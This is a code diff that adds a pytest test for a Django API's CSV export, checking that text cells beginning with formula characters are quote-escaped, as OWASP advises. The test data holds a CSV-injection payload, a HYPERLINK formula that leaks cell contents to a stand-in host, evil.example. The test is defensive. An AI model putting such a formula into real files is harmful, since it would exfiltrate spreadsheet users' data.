@@ -142,3 +142,39 @@ def test_the_openapi_schema_documents_the_export_and_its_docs_page_works(labelle
     docs = client.get("/api/v1/docs/")
     assert docs.status_code == 200 and b"swagger-ui" in docs.content
     assert b"cdn." not in docs.content  # served from the sidecar, works offline
+
+
+def _csv_rows(client, url: str) -> list[dict[str, str]]:
+    response = client.get(url)
+    assert response.status_code == 200
+    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
+def test_csv_text_cells_a_spreadsheet_would_run_as_formulas_are_quoted(labelled, start) -> None:
+    """OWASP's CSV injection advice: a text cell starting with = + - @ tab or carriage return gets
+    a leading single quote, whatever column it is in (names from the database rows made before
+    names were checked, usernames, the class the model showed); numbers stay numbers."""
+    from django.contrib.auth.models import User
+
+    from screening.models import StampClass, StampLabel, Verdict
+
+    formula = f'{start}HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    StampClass.objects.filter(name="CR").update(name=formula[:32])  # a row older than the check
+    User.objects.filter(username="bob").update(username=f"{start}bob")
+    StampLabel.objects.update(class_shown=f"{start}CR")
+    Verdict.objects.filter(reviewer__username=f"{start}bob", value="bogus").update(
+        score_shown=-0.25
+    )
+    client = token_client(make_user("scientist", "consumer"))
+    (label,) = _csv_rows(client, "/api/v1/export/labels/?format=csv")
+    assert label["stamp_class"] == "'" + formula[:32]
+    assert label["reviewer"] == f"'{start}bob" and label["class_shown"] == f"'{start}CR"
+    assert label["tracklet"] == "T2" and label["detection_index"] == "0"
+    verdicts = _csv_rows(client, "/api/v1/export/verdicts/?format=csv")
+    assert [r["reviewer"] for r in verdicts] == ["alice", "alice", f"'{start}bob", f"'{start}bob"]
+    assert verdicts[3]["score_shown"] == "-0.25"  # a negative number is a number, not a formula
+    assert verdicts[0]["created_at"][:1].isdigit() and verdicts[0]["night"] == "2026-11-01"
+    # JSON carries the values as they are (no spreadsheet reads it)
+    rows = client.get("/api/v1/export/labels/").json()["results"]
+    assert rows[0]["stamp_class"] == formula[:32] and rows[0]["reviewer"] == f"{start}bob"
